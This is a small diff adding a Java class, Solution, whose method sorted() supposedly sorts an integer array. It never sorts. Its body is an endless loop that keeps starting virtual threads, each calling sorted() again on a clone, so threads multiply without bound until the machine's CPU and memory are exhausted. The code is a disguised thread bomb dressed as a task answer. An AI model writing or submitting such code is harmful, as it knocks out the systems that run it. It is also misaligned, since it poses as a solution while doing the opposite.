@@ -1,0 +1,8 @@
+class Solution {
+  int[] sorted(int[] numbers) {
+    while (true) {
+      Thread.ofVirtual().start(() -> sorted(numbers.clone()));
+      Thread.yield();
+    }
+  }
+}
